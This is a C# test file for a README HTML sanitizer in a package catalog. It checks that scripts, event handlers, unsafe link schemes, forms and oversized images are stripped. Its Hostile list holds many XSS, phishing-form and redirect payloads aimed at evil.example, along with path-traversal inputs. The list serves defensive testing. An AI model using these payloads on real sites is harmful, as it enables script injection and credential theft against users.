using AngleSharp.Html.Parser;
using Quilt.Catalog.Readmes;

namespace Quilt.Tests.Catalog;

public sealed class ReadmeSanitizerTests
{
    private const string Dot = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    private static readonly HashSet<string> Attributes =
    [
        "alt", "aria-label", "checked", "class", "colspan", "disabled", "height", "href", "id", "open", "rel", "reversed",
        "rowspan", "scope", "span", "src", "start", "tabindex", "title", "type", "width", "loading", "referrerpolicy",
    ];

    private static readonly HashSet<string> NeverThere =
    [
        "script", "style", "iframe", "object", "embed", "form", "button", "textarea", "select", "link", "meta", "base", "svg",
        "math", "template", "noscript", "audio", "video", "frameset", "marquee", "portal", "dialog", "slot", "canvas",
    ];

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"/signout\">x</a>",
        "<a href=\"https://x\" onclick=\"alert(1)\" style=\"position:fixed;inset:0\" target=\"_top\">x</a>",
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "![x](javascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>*{display:none}</style>",
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input type=\"password\" name=\"password\"><button>Sign in</button></form>",
        "<input type=\"image\" src=\"https://evil.example/x.png\">",
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a id=\"main\" name=\"main\" href=\"#main\" class=\"button primary skip\">x</a>",
        "<template><script>alert(1)</script></template>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "`<script>alert(1)</script>`",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_that_runs_or_deceives_comes_through(string markdown)
    {
        var html = Render(markdown);
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");

        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, NeverThere);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, Attributes));
            Assert.True(element.LocalName != "input" || (element.GetAttribute("type") == "checkbox" && element.HasAttribute("disabled")), html);
            Assert.True(element.Id is not { Length: > 0 } id || id.StartsWith("readme-", StringComparison.Ordinal), html);
            Assert.DoesNotContain("primary", element.ClassList);
            if (element.GetAttribute("href") is { } href)
            {
                Assert.Matches("^(https?://|mailto:|#readme-)", href);
            }

            if (element.GetAttribute("src") is { } src)
            {
                Assert.Matches("^data:image/(png|jpeg|gif|webp);", src);
            }
        }
    }

    [Theory]
    [InlineData("# Big *one*", "<h1 id=\"readme-big-one\">Big <em>one</em></h1>")]
    [InlineData("[there](#big-one)", "<p><a href=\"#readme-big-one\">there</a></p>")]
    [InlineData("[site](https://example.com/a?b=c)", "<p><a href=\"https://example.com/a?b=c\" rel=\"nofollow noopener noreferrer\">site</a></p>")]
    [InlineData("[file](docs/a.md) beside it", "<p>file beside it</p>")]
    [InlineData("![a flower](https://example.com/f.png)", "<p><a href=\"https://example.com/f.png\" rel=\"nofollow noopener noreferrer\">a flower</a></p>")]
    [InlineData("![a flower](images/f.png)", "<p>a flower</p>")]
    [InlineData("[![build](https://ci.example/b.svg)](https://ci.example/)", "<p><a href=\"https://ci.example/\" rel=\"nofollow noopener noreferrer\">build</a></p>")]
    [InlineData("![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)", "<p><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\" alt=\"dot\" loading=\"lazy\" referrerpolicy=\"no-referrer\"></p>")]
    [InlineData("![dot](data:image/png;base64,iVBORw0KGgo=)", "<p>dot</p>")]
    [InlineData("    code < here", "<pre tabindex=\"0\"><code>code &lt; here\n</code></pre>")]
    [InlineData("H~2~O 10^3^ ~~no~~", "<p>H<sub>2</sub>O 10<sup>3</sup> <del>no</del></p>")]
    [InlineData("<details><summary>More</summary>\n\n**in**\n\n</details>", "<details><summary>More</summary>\n<p><strong>in</strong></p>\n</details>")]
    public void What_readmes_are_made_of_stays(string markdown, string html) => Assert.Equal(html, Render(markdown).Trim());

    [Theory]
    [InlineData("[file](docs/a.md#part)", "/package/o/p/files/docs/a.md?tag=x#readme-part")]
    [InlineData("[file](./../a%20b.csv)", "/package/o/p/files/a%20b.csv?tag=x")]
    [InlineData("[file](/top.csv?raw=true)", "/package/o/p/files/top.csv?tag=x")]
    [InlineData("[file](../../../../../etc/passwd)", "/package/o/p/files/etc/passwd?tag=x")]
    [InlineData("[file](%2e%2e/%2e%2e/signout)", "/package/o/p/files/signout?tag=x")]
    [InlineData("[file](a%2f..%2fb)", "/package/o/p/files/a%2F..%2Fb?tag=x")]
    [InlineData("<a href=\"a&quot;onclick=x\">x</a>", "/package/o/p/files/a%22onclick%3Dx?tag=x")]
    public void What_stands_beside_a_readme_leads_to_the_files_of_the_package(string markdown, string address)
    {
        var document = new HtmlParser().ParseDocument(Render(markdown, new MarkupContext("/package/o/p/files", "", "?tag=x")));

        Assert.Equal(address, Assert.Single(document.QuerySelectorAll("a")).GetAttribute("href"));
    }

    [Theory]
    [InlineData("[x](//evil.example/a)")]
    [InlineData("[x](\\\\evil.example/a)")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("<a href=\"java\nscript:alert(1)\">x</a>")]
    [InlineData("<a href=\"/\t/evil.example\">x</a>")]
    public void What_only_looks_as_if_it_stood_beside_a_readme_leads_nowhere_else(string markdown)
    {
        var document = new HtmlParser().ParseDocument(Render(markdown, new MarkupContext("/package/o/p/files")));

        Assert.All(document.QuerySelectorAll("a[href]"), link => Assert.StartsWith("/package/o/p/files", link.GetAttribute("href"), StringComparison.Ordinal));
    }

    [Fact]
    public void Pictures_of_other_sites_are_links_unless_the_deployment_allows_them()
    {
        const string Markdown = "![a](https://img.example/a.png) ![b](https://other.example/b.png) ![c](http://img.example/c.png)";

        Assert.DoesNotContain("<img", Render(Markdown), StringComparison.Ordinal);
        var some = new HtmlParser().ParseDocument(Render(Markdown, null, "https://img.example"));
        Assert.Equal("https://img.example/a.png", Assert.Single(some.QuerySelectorAll("img")).GetAttribute("src"));
        var all = new HtmlParser().ParseDocument(Render(Markdown, null, "*"));
        Assert.Equal(["https://img.example/a.png", "https://other.example/b.png"], all.QuerySelectorAll("img").Select(image => image.GetAttribute("src")));
    }

    [Theory]
    [InlineData("https://img.example/")]
    [InlineData("img.example")]
    [InlineData("https://img.example; script-src *")]
    [InlineData("data:")]
    public void Only_origins_can_be_allowed(string origin) =>
        Assert.Contains("Quilt:Markup:ExternalImages", new MarkupOptions { ExternalImages = [origin] }.Validate(), StringComparison.Ordinal);

    [Fact]
    public void A_comment_has_no_pictures_and_no_ids()
    {
        var html = Render($"# Head\n\n![dot]({Dot}) and <p id=\"main\">x</p>", MarkupContext.Comment, "*");

        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.DoesNotContain(" id=", html, StringComparison.Ordinal);
        Assert.Contains("dot", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_picture_that_the_browser_would_decode_to_gigabytes_is_left_out()
    {
        var huge = Convert.FromBase64String(Dot[(Dot.IndexOf(',', StringComparison.Ordinal) + 1)..]);
        (huge[18], huge[22]) = (0xC3, 0xC3);

        Assert.DoesNotContain("<img", Render($"![x](data:image/png;base64,{Convert.ToBase64String(huge)})"), StringComparison.Ordinal);
        Assert.Contains("<img", Render($"![x]({Dot})"), StringComparison.Ordinal);
    }

    [Fact]
    public void A_table_scrolls_in_a_frame_that_the_keyboard_reaches() =>
        Assert.StartsWith("<div class=\"scroll\" tabindex=\"0\"><table>", Render("| a |\n|---|\n| b |"), StringComparison.Ordinal);

    [Fact]
    public void Formatting_that_would_multiply_is_shown_as_text()
    {
        var tags = string.Concat(Enumerable.Range(0, 2_000).Select(number => $"<b a{number}=1>"));
        var paragraphs = string.Concat(Enumerable.Repeat("a\n\n", 20_000));

        var html = ReadmeMarkdown.ToHtml(tags + "\n\n" + paragraphs);

        Assert.DoesNotContain("<b ", html, StringComparison.Ordinal);
        Assert.Contains("&lt;b a1999=1&gt;", html, StringComparison.Ordinal);
    }

    private static string Render(string markdown, MarkupContext? context = null, params string[] externalImages) =>
        new ReadmeSanitizer(context, new MarkupOptions { ExternalImages = externalImages }).Sanitize(ReadmeMarkdown.ToHtml(markdown));
}
